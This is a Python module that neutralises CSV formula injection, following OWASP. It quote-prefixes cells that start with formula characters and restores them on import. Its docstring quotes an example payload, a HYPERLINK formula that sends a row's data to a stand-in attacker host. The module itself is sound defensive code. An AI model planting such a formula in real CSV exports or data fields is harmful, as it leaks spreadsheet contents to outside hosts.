"""CSV that a spreadsheet opens safely (OWASP, "CSV Injection").

A cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or a carriage return, which
spreadsheets skip before reading one of those) is read as a formula: a provider name such as
``=HYPERLINK("https://evil.example/?"&A1, "Meta")`` would run in the analyst's spreadsheet and
could send the row elsewhere. Every CSV the service writes goes through ``csv_text``, which
prefixes such a cell with a single quote, the prefix spreadsheets show as text.

Reading a file back (``restore_cell``) removes exactly that prefix, so an export imports to the
same values; a value that itself begins with a quote before such a character gets a second
quote on the way out and keeps its first on the way in (pure: no I/O)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

__all__ = ["FORMULA_START", "csv_text", "neutralise_cell", "restore_cell"]

#: OWASP's list: the characters a spreadsheet may read a formula after.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _quoted_formula(cell: str) -> bool:
    return cell.startswith("'") and cell[1:].startswith(FORMULA_START + ("'",)) and len(cell) > 1


def neutralise_cell(cell: str) -> str:
    """`cell` as a spreadsheet must show it: text, never a formula."""
    if cell.startswith(FORMULA_START) or _quoted_formula(cell):
        return "'" + cell
    return cell


def restore_cell(cell: str) -> str:
    """The value a neutralised cell stood for (the inverse of neutralise_cell)."""
    if _quoted_formula(cell):
        return cell[1:]
    return cell


def csv_text(header: Iterable[str], rows: Iterable[Iterable[str]]) -> str:
    """A CSV document (LF line ends) with every cell, the header's too, neutralised."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([neutralise_cell(str(h)) for h in header])
    for row in rows:
        writer.writerow([neutralise_cell(str(c)) for c in row])
    return out.getvalue()
